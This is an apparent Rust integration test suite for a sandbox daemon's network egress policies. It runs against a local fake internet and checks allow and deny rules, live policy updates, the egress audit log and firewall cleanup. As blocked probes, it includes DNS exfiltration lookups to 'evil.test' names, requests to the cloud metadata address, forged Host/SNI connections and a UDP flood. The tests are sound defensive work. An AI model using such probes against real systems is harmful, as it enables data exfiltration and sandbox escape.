//! Network policies end to end, against a small "internet" this test builds on the machine:
//! a network namespace holding TEST-NET-2 addresses (198.51.100.0/24, never routed on the
//! internet) with HTTP, TCP, UDP and DNS services, and a metadata-address canary
//! (169.254.169.254) that exists only inside that namespace. No packet leaves the machine.

mod common;

mod inet;

use std::process::Command;
use std::time::Duration;

use common::{rand_token, run_bounded, sandbox_body, Daemon};
use inet::{Internet, EVIL, NET};
use serde_json::{json, Value};

/// Runs Python in the sandbox and returns its stdout (trimmed).
fn py(d: &Daemon, id: &str, code: &str) -> String {
    let r = d.exec(id, json!({ "cmd": ["python3", "-c", code], "timeout_ms": 15000 }));
    assert_eq!(r["timed_out"], false, "{r}");
    r["stdout"].as_str().unwrap_or_default().trim().to_string()
}

const HTTP: &str = "import urllib.request,sys\ntry:\n print(urllib.request.urlopen(sys.argv[1] if len(sys.argv)>1 else 'http://198.51.100.10:8080/', timeout=3).status)\nexcept Exception as e:\n print('blocked', type(e).__name__)";

fn http(d: &Daemon, id: &str, url: &str) -> String {
    py(d, id, &HTTP.replace("sys.argv[1] if len(sys.argv)>1 else 'http://198.51.100.10:8080/'", &format!("{url:?}")))
}

fn resolve(d: &Daemon, id: &str, name: &str) -> String {
    py(
        d,
        id,
        &format!(
            "import socket\ntry:\n print(socket.gethostbyname({name:?}))\nexcept Exception as e:\n print('nxdomain', type(e).__name__)"
        ),
    )
}

fn udp(d: &Daemon, id: &str, msg: &str) -> String {
    py(
        d,
        id,
        &format!(
            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n s.sendto(b{msg:?}, ('198.51.100.10', 9999)); print('sent')\nexcept Exception as e:\n print('blocked', type(e).__name__)"
        ),
    )
}

/// The test internet's addresses are the host's: one at a time in this binary.
static ONE_INTERNET: std::sync::Mutex<()> = std::sync::Mutex::new(());

#[test]
fn policies_are_enforced_on_the_host_side() {
    require_root!();
    let _one = ONE_INTERNET.lock().unwrap_or_else(|e| e.into_inner());
    let inet = Internet::start();
    // Prove the fixture answers from the host (so a block below is the policy's doing).
    let out = run_bounded(
        Command::new("python3").args([
            "-c",
            "import urllib.request; print(urllib.request.urlopen('http://169.254.169.254:8080/', timeout=3).status)",
        ]),
        None,
        Duration::from_secs(10),
    );
    assert_eq!(out.stdout_str().trim(), "200", "the metadata canary answers the host: {}", out.stderr_str());
    std::env::set_var("GLOVEBOX_DNS_UPSTREAM", format!("{NET}:53"));
    let d = Daemon::start();

    // deny-all (the default): nothing leaves, nothing resolves, the servers see nothing.
    let deny = d.create(sandbox_body(json!({})));
    let before = inet.events().len();
    assert!(http(&d, &deny, "http://198.51.100.10:8080/").starts_with("blocked"));
    assert!(udp(&d, &deny, "deny-all").contains("blocked"), "no route for UDP either");
    assert!(resolve(&d, &deny, "api.good.test").starts_with("nxdomain"));
    assert_eq!(inet.events().len(), before, "deny-all reached the test internet: {:?}", inet.events());

    // allow-all: public addresses and DNS work; metadata, the host and private ranges do not.
    let all = d.create(sandbox_body(json!({ "network": { "mode": "allow-all" } })));
    assert_eq!(http(&d, &all, "http://198.51.100.10:8080/"), "200");
    assert_eq!(resolve(&d, &all, "api.good.test"), NET, "names resolve through the host-side forwarder");
    assert!(resolve(&d, &all, "secret-data.evil.test").starts_with("nxdomain"));
    let meta_before = inet.meta_events();
    assert!(http(&d, &all, "http://169.254.169.254:8080/").starts_with("blocked"), "metadata is denied");
    assert_eq!(inet.meta_events(), meta_before, "the metadata canary saw a sandbox packet");
    let gw = py(
        &d,
        &all,
        "import subprocess; print(subprocess.run(['ip','route'],capture_output=True,text=True).stdout.split()[2])",
    );
    assert!(http(&d, &all, &format!("http://{gw}:7171/")).starts_with("blocked"), "the host itself is denied");

    // allow-list with a port: exactly that is reachable.
    let list = d.create(sandbox_body(json!({ "network": { "mode": "allow-list", "allow": [format!("{NET}:8080")] } })));
    assert_eq!(http(&d, &list, "http://198.51.100.10:8080/"), "200");
    assert!(http(&d, &list, "http://198.51.100.10:8081/").starts_with("blocked"), "other ports denied");
    let n_udp = inet.events().iter().filter(|e| e["kind"] == "udp").count();
    udp(&d, &list, "not-allowed");
    assert_eq!(inet.events().iter().filter(|e| e["kind"] == "udp").count(), n_udp, "UDP 9999 is not allowed");

    // deny wins over allow-all.
    let denied = d.create(sandbox_body(json!({ "network": { "mode": "allow-all", "deny": [format!("{NET}/32")] } })));
    assert!(http(&d, &denied, "http://198.51.100.10:8080/").starts_with("blocked"));

    // Live update: a connection opened before the switch to deny-all is closed after it.
    let hold = "import socket,time,sys\ns=socket.create_connection(('198.51.100.10',8081),timeout=5)\nf=s.makefile('rwb')\nf.write(b'first\\n');f.flush();print(f.readline().decode().strip(),flush=True)\ntime.sleep(3)\ntry:\n f.write(b'second\\n');f.flush();l=f.readline()\n print('after:'+(l.decode().strip() or 'closed'))\nexcept Exception as e:\n print('after:'+type(e).__name__)";
    let (st, bg) =
        d.post(&format!("/v1/sandboxes/{all}/exec"), &json!({ "cmd": ["python3", "-c", hold], "background": true }));
    assert_eq!(st, 202, "{bg}");
    let cid = bg["id"].as_u64().expect("command id");
    let first = common::poll(Duration::from_secs(10), Duration::from_millis(100), || {
        inet.events().iter().any(|e| e["kind"] == "hold" && e["line"] == "first").then_some(())
    });
    assert!(first.is_some(), "the held connection was opened");
    let (st, v) = d
        .req(reqwest::Method::PUT, &format!("/v1/sandboxes/{all}/network"))
        .json(&json!({ "mode": "deny-all" }))
        .send()
        .map(|r| {
            let s = r.status().as_u16();
            (s, r.json::<Value>().unwrap_or_default())
        })
        .expect("update");
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["network"]["mode"], "deny-all");
    let (_, res) = d.get(&format!("/v1/sandboxes/{all}/commands/{cid}?wait=true"));
    let out = res["stdout"].as_str().unwrap_or_default();
    assert!(out.starts_with("ok"), "{res}");
    assert!(!out.contains("after:ok"), "the old connection kept working after deny-all: {out}");
    assert!(!inet.events().iter().any(|e| e["kind"] == "hold" && e["line"] == "second"), "a packet got through");
    assert!(http(&d, &all, "http://198.51.100.10:8080/").starts_with("blocked"), "new connections fail too");

    // Domain allow-list: the name works (HTTP by Host, HTTPS by SNI); other names do not
    // resolve and are never asked upstream; a forged Host/SNI towards another address fails.
    let dom =
        d.create(sandbox_body(json!({ "network": { "mode": "allow-list", "allow": ["api.good.test:8080,8443"] } })));
    assert_eq!(http(&d, &dom, "http://api.good.test:8080/"), "200");
    let tls = |host: &str, sni: &str| {
        py(&d, &dom, &format!(
            "import socket,ssl\nctx=ssl._create_unverified_context()\ntry:\n s=socket.create_connection(({host:?},8443),timeout=4)\n t=ctx.wrap_socket(s,server_hostname={sni:?})\n t.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n print(t.recv(100).split(b'\\r\\n')[0].decode())\nexcept Exception as e:\n print('blocked', type(e).__name__)"
        ))
    };
    assert_eq!(tls("api.good.test", "api.good.test"), "HTTP/1.0 200 OK", "HTTPS by SNI");
    let secret = format!("secret-data-{}.evil.test", rand_token(8));
    assert!(resolve(&d, &dom, &secret).starts_with("nxdomain"));
    assert!(
        !inet.events().iter().any(|e| e["kind"] == "dns" && e["name"].as_str().unwrap_or_default().contains(&secret)),
        "a denied name reached the upstream resolver (DNS exfiltration)"
    );
    let forged = py(&d, &dom, &format!(
        "import socket\ntry:\n s=socket.create_connection(({EVIL:?},8080),timeout=4)\n s.sendall(b'GET / HTTP/1.1\\r\\nHost: api.good.test\\r\\n\\r\\n')\n print(s.recv(100) or b'closed')\nexcept Exception as e:\n print('blocked', type(e).__name__)"
    ));
    assert!(
        forged.contains("closed") || forged.starts_with("blocked"),
        "forged Host towards another address: {forged}"
    );
    assert!(tls(EVIL, "api.good.test").starts_with("blocked"), "forged SNI towards another address");
    assert!(inet.evil_events().is_empty(), "the other server saw a connection: {}", inet.evil_events());
    assert!(http(&d, &dom, "http://198.51.100.10:8081/").starts_with("blocked"), "ports outside the rule");
    let (st, log) = d.get(&format!("/v1/sandboxes/{dom}/egress"));
    assert_eq!(st, 200, "{log}");
    let entries = log["entries"].as_array().cloned().unwrap_or_default();
    let has = |kind: &str, name: &str, allowed: bool| {
        entries.iter().any(|e| {
            e["kind"] == kind && e["name"].as_str().unwrap_or_default().contains(name) && e["allowed"] == allowed
        })
    };
    assert!(has("dns", "api.good.test", true), "{log}");
    assert!(has("dns", &secret, false), "{log}");
    assert!(has("tcp", "api.good.test", true), "{log}");
    assert!(entries.iter().any(|e| e["kind"] == "tcp" && e["ip"] == EVIL && e["allowed"] == false), "{log}");

    // Bad policies are clear 400s.
    for bad in [
        json!({ "mode": "allow-list" }),
        json!({ "mode": "deny-all", "allow": ["198.51.100.0/24"] }),
        json!({ "mode": "allow-list", "allow": ["198.51.100.0/40"] }),
        json!({ "mode": "allow-list", "allow": ["198.51.100.10:0"] }),
        json!({ "mode": "sometimes" }),
    ] {
        let (st, e) = d.post("/v1/sandboxes", &json!({ "network": bad }));
        assert_eq!(st, 400, "{bad} -> {e}");
        assert!(!e["error"]["message"].as_str().unwrap_or_default().is_empty());
    }

    let pid = d.pid();
    assert!(!inet::links_of(pid).is_empty(), "control: the live sandboxes' links are found by their alias");
    d.shutdown_and_check_leaks();
    inet::assert_no_net_state(pid);
}

fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap_or(0)
}

#[test]
fn the_egress_audit_lists_every_attempt_with_its_verdict() {
    require_root!();
    let _one = ONE_INTERNET.lock().unwrap_or_else(|e| e.into_inner());
    let inet = Internet::start();
    std::env::set_var("GLOVEBOX_DNS_UPSTREAM", format!("{NET}:53"));
    let d = Daemon::start();
    let id =
        d.create(sandbox_body(json!({ "network": { "mode": "allow-list", "allow": [format!("{NET}/32:8080")] } })));

    // Five attempts: TCP, UDP and ICMP to an address no rule allows, a name no rule allows,
    // and the allowed address and port.
    let icmp = py(
        &d,
        &id,
        &format!(
            "import socket
try:
 s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
 s.sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]), ({EVIL:?}, 0)); print('sent')
except Exception as e:
 print('refused', type(e).__name__)"
        ),
    );
    let t0 = std::time::Instant::now();
    assert!(http(&d, &id, &format!("http://{EVIL}:80/")).starts_with("blocked"));
    let udp_out = py(
        &d,
        &id,
        &format!(
            "import socket
s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b'x', ({EVIL:?}, 9999)); print('sent')"
        ),
    );
    assert_eq!(udp_out, "sent");
    assert!(resolve(&d, &id, "exfil.evil.test").starts_with("nxdomain"));
    assert_eq!(http(&d, &id, "http://198.51.100.10:8080/"), "200");
    let sent = t0.elapsed();

    let want = |e: &Value, kind: &str, ip: &str, port: u64, allowed: bool| {
        e["kind"] == kind && e["ip"] == ip && e["port"] == port && e["allowed"] == allowed
    };
    let mut log = Value::Null;
    let found = common::poll(Duration::from_secs(1), Duration::from_millis(20), || {
        log = d.get(&format!("/v1/sandboxes/{id}/egress")).1;
        let entries = log["entries"].as_array().cloned().unwrap_or_default();
        let all = entries.iter().any(|e| want(e, "tcp", EVIL, 80, false))
            && entries.iter().any(|e| want(e, "udp", EVIL, 9999, false))
            && entries.iter().any(|e| e["kind"] == "dns" && e["name"] == "exfil.evil.test" && e["allowed"] == false)
            && entries.iter().any(|e| want(e, "tcp", NET, 8080, true))
            && (icmp.starts_with("refused") || entries.iter().any(|e| want(e, "icmp", EVIL, 0, false)));
        all.then_some(())
    });
    assert!(
        found.is_some(),
        "within 1 s of the last attempt ({sent:?} after the first), the audit lacks some: {log:#}"
    );
    let entries = log["entries"].as_array().cloned().unwrap_or_default();
    let reason = |kind: &str, ip: &str, port: u64, allowed: bool| {
        entries.iter().find(|e| want(e, kind, ip, port, allowed)).map(|e| e["reason"].to_string()).unwrap_or_default()
    };
    assert!(reason("tcp", NET, 8080, true).contains("allowed by rule 198.51.100.10/32 tcp/8080"), "{log:#}");
    assert!(reason("tcp", EVIL, 80, false).contains("no rule allows"), "{log:#}");
    // One entry per connection allowed, not per packet: the HTTP exchange is several.
    assert_eq!(entries.iter().filter(|e| want(e, "tcp", NET, 8080, true)).count(), 1, "{log:#}");
    // A sandbox process cannot open an ICMP socket at all (no CAP_NET_RAW, ping sockets off
    // in its namespace): then there is nothing to log, and nothing left.
    eprintln!("icmp attempt from the sandbox: {icmp}");

    // A flood of denied packets: listed up to the rate, counted past it; the daemon's memory
    // stays flat and the other server sees nothing.
    let rss0 = rss_kib(d.pid());
    let flood = py(
        &d,
        &id,
        &format!(
            "import socket
s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
n=0
for i in range(100000):
 try:
  s.sendto(b'f', ({EVIL:?}, 9998)); n+=1
 except OSError:
  pass
print(n)"
        ),
    );
    let flooded: u64 = flood.parse().unwrap_or_else(|_| panic!("flood: {flood}"));
    assert!(flooded >= 90_000, "the sandbox sent {flooded} of 100000");
    let mut log = Value::Null;
    let counted = common::poll(Duration::from_secs(10), Duration::from_millis(100), || {
        log = d.get(&format!("/v1/sandboxes/{id}/egress")).1;
        let listed = log["entries"].as_array().map_or(0, |v| v.iter().filter(|e| e["port"] == 9998).count()) as u64;
        let unlisted = log["unlisted"].as_u64().unwrap_or(0);
        (listed + unlisted >= flooded / 2).then_some((listed, unlisted))
    });
    let (listed, unlisted) = counted.unwrap_or_else(|| panic!("the flood was not counted: {}", log["unlisted"]));
    eprintln!("flood of {flooded}: {listed} listed, {unlisted} counted");
    assert!(listed <= 2_000, "{listed} listed: the listing rate did not hold");
    let rss1 = rss_kib(d.pid());
    assert!(rss1 < rss0 + 32 * 1024, "daemon RSS grew from {rss0} to {rss1} KiB");
    assert!(!inet.events().iter().any(|e| e["kind"] == "udp" && e["port"] == 9998), "a flooded packet left");
    d.shutdown_and_check_leaks();
}

#[test]
fn a_daemon_stopped_with_no_sandbox_left_leaves_no_firewall_table() {
    require_root!();
    // A keeping daemon (the default): SIGTERM leaves sandboxes for the next start, and with
    // them its table; with none left, nothing of its networking may stay.
    let mut d = Daemon::start_keeping();
    let id = d.create(sandbox_body(json!({ "network": { "mode": "allow-list", "allow": ["198.51.100.0/24"] } })));
    let pid = d.pid();
    let (has, tables) = inet::has_table(pid);
    assert!(has, "control: an allow-list sandbox gives the daemon a table: {tables}");
    let (st, v) = d.delete(&format!("/v1/sandboxes/{id}"));
    assert_eq!(st, 204, "{v}");
    d.stop();
    inet::assert_no_net_state(pid);
    d.shutdown_and_check_leaks();
}

#[test]
fn networking_runs_no_helper_binary() {
    require_root!();
    // `ip`, `nft` and `nsenter` first on the daemon's PATH are fakes that leave a mark and
    // fail: links and rules must be made without them.
    let fakes = common::tempdir("gbtest-fakebin-");
    let marker = fakes.path().join("ran");
    for name in ["ip", "nft", "nsenter"] {
        let path = fakes.path().join(name);
        std::fs::write(&path, format!("#!/bin/sh\necho \"$0 $*\" >> {}\nexit 1\n", marker.display())).expect("fake");
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("chmod");
    }
    let _one = ONE_INTERNET.lock().unwrap_or_else(|e| e.into_inner());
    let inet = Internet::start();
    std::env::set_var("GLOVEBOX_DNS_UPSTREAM", format!("{NET}:53"));
    let prelude: &'static str =
        Box::leak(format!("PATH={}:$PATH; export PATH;", fakes.path().display()).into_boxed_str());
    let d = Daemon::start_after(prelude);
    let environ = std::fs::read(format!("/proc/{}/environ", d.pid())).expect("the daemon's environment");
    let path = environ.split(|b| *b == 0).find_map(|v| v.strip_prefix(b"PATH=")).unwrap_or_default();
    assert!(
        path.starts_with(fakes.path().as_os_str().as_encoded_bytes()),
        "control: the fakes come first on the daemon's PATH: {}",
        String::from_utf8_lossy(path)
    );

    let id = d.create(sandbox_body(json!({ "network": { "mode": "allow-list", "allow": [format!("{NET}:8080")] } })));
    assert_eq!(http(&d, &id, "http://198.51.100.10:8080/"), "200");
    assert!(http(&d, &id, "http://198.51.100.10:8081/").starts_with("blocked"), "other ports denied");

    // Live update: a name through the resolver and the proxy, and the address rule kept.
    let put = |policy: Value| {
        let r =
            d.req(reqwest::Method::PUT, &format!("/v1/sandboxes/{id}/network")).json(&policy).send().expect("update");
        assert_eq!(r.status().as_u16(), 200, "{policy}");
    };
    put(json!({ "mode": "allow-list", "allow": [format!("{NET}:8080"), "api.good.test:8080"] }));
    assert_eq!(http(&d, &id, "http://api.good.test:8080/"), "200", "the name after the update");
    assert_eq!(http(&d, &id, "http://198.51.100.10:8080/"), "200", "the address rule after the update");
    put(json!({ "mode": "allow-list", "allow": [format!("{NET}:9999")] }));
    assert!(http(&d, &id, "http://198.51.100.10:8080/").starts_with("blocked"), "the narrower policy holds");
    assert!(inet.evil_events().is_empty(), "the other server saw a connection: {}", inet.evil_events());

    let (st, v) = d.delete(&format!("/v1/sandboxes/{id}"));
    assert_eq!(st, 204, "{v}");
    let pid = d.pid();
    d.shutdown_and_check_leaks();
    inet::assert_no_net_state(pid);
    let ran = std::fs::read_to_string(&marker).unwrap_or_default();
    assert!(!marker.exists(), "the daemon ran a networking binary: {ran}");
}

#[test]
fn a_sandbox_linked_ahead_gets_the_same_network_and_its_policy() {
    require_root!();
    let _one = ONE_INTERNET.lock().unwrap_or_else(|e| e.into_inner());
    let _inet = Internet::start();
    std::env::set_var("GLOVEBOX_DNS_UPSTREAM", format!("{NET}:53"));
    let d = Daemon::start();
    let pid = d.pid();
    let policy = json!({ "network": { "mode": "allow-list", "allow": ["198.51.100.10:8080"] } });
    // The first create that needs a link makes its own and starts the pool (two by default).
    let first = d.create(sandbox_body(policy.clone()));
    let full = common::poll(Duration::from_secs(10), Duration::from_millis(20), || {
        (inet::links_of(pid).len() >= 3).then_some(())
    });
    assert!(full.is_some(), "no links made ahead: {:?}", inet::links_of(pid));
    let ahead = d.create(sandbox_body(policy));
    for id in [&first, &ahead] {
        // resolv.conf names the host end of its own link, which is its default gateway.
        let conf = d.sh_ok(id, "cat /etc/resolv.conf");
        let ns = conf.lines().find_map(|l| l.strip_prefix("nameserver ")).unwrap_or_default().to_string();
        assert!(ns.starts_with("10.213."), "{id}: {conf}");
        let gw = py(
            &d,
            id,
            "import socket,struct\nfor l in open('/proc/net/route').read().splitlines()[1:]:\n f=l.split()\n if f[1]=='00000000': print(socket.inet_ntoa(struct.pack('<I',int(f[2],16))))",
        );
        assert_eq!(gw, ns, "{id}: the default route goes via the resolver's address");
        assert!(d.sh_ok(id, "cat /proc/net/dev").contains("eth0:"), "{id}: no eth0");
        // Its policy is in force: the allowed port answers, the next one does not.
        assert_eq!(http(&d, id, "http://198.51.100.10:8080/"), "200", "{id}");
        assert!(http(&d, id, "http://198.51.100.10:8081/").starts_with("blocked"), "{id}");
    }
    d.shutdown_and_check_leaks();
    inet::assert_no_net_state(pid);
}

/// The names of daemon `pid`'s nf_tables tables (its first and its shards), sorted.
fn tables_of(pid: u32) -> Vec<String> {
    let out = run_bounded(Command::new("nft").args(["list", "tables"]), None, Duration::from_secs(5)).stdout_str();
    let first = format!("glovebox_{pid}");
    let mut t: Vec<String> = out
        .lines()
        .filter_map(|l| l.trim().strip_prefix("table inet "))
        .filter(|n| *n == first || n.strip_prefix(&format!("{first}_")).is_some_and(|s| s.parse::<u32>().is_ok()))
        .map(String::from)
        .collect();
    t.sort();
    t
}

/// The links in table `table`'s `ifaces` set (each of the daemon's links is in one table).
fn links_in(table: &str) -> usize {
    let out =
        run_bounded(Command::new("nft").args(["list", "set", "inet", table, "ifaces"]), None, Duration::from_secs(5))
            .stdout_str();
    out.matches("\"gb").count()
}

/// Past a table's room (two links here, 64 by default), linked sandboxes go to further
/// tables, made as needed: each sandbox there gets its policy as in the first, no table holds
/// more than its room, and the daemon's exit leaves none. (Which table is emptied when is
/// not checked here: the shells linked ahead hold links too; `net`'s unit tests do that.)
#[test]
fn sandboxes_past_the_first_tables_room_get_their_policy_from_further_tables() {
    require_root!();
    let _one = ONE_INTERNET.lock().unwrap_or_else(|e| e.into_inner());
    let _inet = Internet::start();
    let d = Daemon::start_with_shard_links(2);
    let pid = d.pid();
    let body = sandbox_body(json!({ "network": { "mode": "allow-list", "allow": [format!("{NET}:8080")] } }));
    let ids: Vec<String> = (0..5).map(|_| d.create(body.clone())).collect();
    let tables = tables_of(pid);
    assert!(tables.len() >= 3, "five links, two a table: {tables:?}");
    assert_eq!(tables[0], format!("glovebox_{pid}"));
    let held: Vec<usize> = tables.iter().map(|t| links_in(t)).collect();
    assert!(held.iter().all(|n| *n <= 2), "a table holds more than its room: {tables:?} {held:?}");
    assert!(held.iter().sum::<usize>() >= 5, "a sandbox's link is in no table: {tables:?} {held:?}");
    // Every sandbox, whichever table holds it: the allowed port answers, the next one does not.
    for id in &ids {
        assert_eq!(http(&d, id, "http://198.51.100.10:8080/"), "200", "{id}");
        assert!(http(&d, id, "http://198.51.100.10:8081/").starts_with("blocked"), "{id}");
    }
    d.shutdown_and_check_leaks();
    inet::assert_no_net_state(pid);
}

#[test]
fn concurrent_policy_changes_on_an_unlinked_sandbox_both_succeed() {
    require_root!();
    // Two updates that both give a deny-all sandbox its first link, at once: one links it,
    // the other finds it linked (neither may make a second link or a second resolver).
    let d = Daemon::start();
    for round in 0..3 {
        let id = d.create(sandbox_body(json!({ "network": { "mode": "deny-all" } })));
        let put = |allow: &str| {
            let policy = json!({ "mode": "allow-list", "allow": [allow] });
            let r = d.req(reqwest::Method::PUT, &format!("/v1/sandboxes/{id}/network")).json(&policy).send();
            r.map(|r| (r.status().as_u16(), r.text().unwrap_or_default())).expect("update")
        };
        let (a, b) = std::thread::scope(|s| {
            let a = s.spawn(|| put("198.51.100.0/24:80"));
            let b = s.spawn(|| put("198.51.100.0/24:443"));
            (a.join().expect("a"), b.join().expect("b"))
        });
        assert_eq!((a.0, b.0), (200, 200), "round {round}: {a:?} {b:?}");
        let (st, v) = d.get(&format!("/v1/sandboxes/{id}"));
        assert_eq!(st, 200, "{v}");
        let ports = v["network"]["allow"].to_string();
        assert!(ports.contains(":80\"") || ports.contains(":443\""), "one of the two is in force: {v}");
        assert_eq!(d.delete(&format!("/v1/sandboxes/{id}")).0, 204);
    }
    d.shutdown_and_check_leaks();
}

#[test]
fn a_policy_change_racing_a_destroy_answers_cleanly_and_leaves_no_link() {
    require_root!();
    // A first link being made while the sandbox is destroyed: the change either finished
    // first (200) or finds the sandbox gone (404/410); never a 5xx, and no link stays.
    let mut d = Daemon::start_keeping();
    let pid = d.pid();
    for round in 0..6 {
        let id = d.create(sandbox_body(json!({ "network": { "mode": "deny-all" } })));
        let (change, kill) = std::thread::scope(|s| {
            let change = s.spawn(|| {
                let policy = json!({ "mode": "allow-list", "allow": ["198.51.100.0/24"] });
                let r = d.req(reqwest::Method::PUT, &format!("/v1/sandboxes/{id}/network")).json(&policy).send();
                r.map(|r| (r.status().as_u16(), r.text().unwrap_or_default())).expect("update")
            });
            // Staggered a little differently each round, so both orders come up.
            std::thread::sleep(Duration::from_millis(round * 2));
            let kill = d.delete(&format!("/v1/sandboxes/{id}"));
            (change.join().expect("change"), kill)
        });
        assert!(matches!(change.0, 200 | 404 | 410), "round {round}: the change answered {change:?}");
        assert_eq!(kill.0, 204, "round {round}: {:?}", kill.1);
    }
    d.stop();
    inet::assert_no_net_state(pid);
    d.shutdown_and_check_leaks();
}
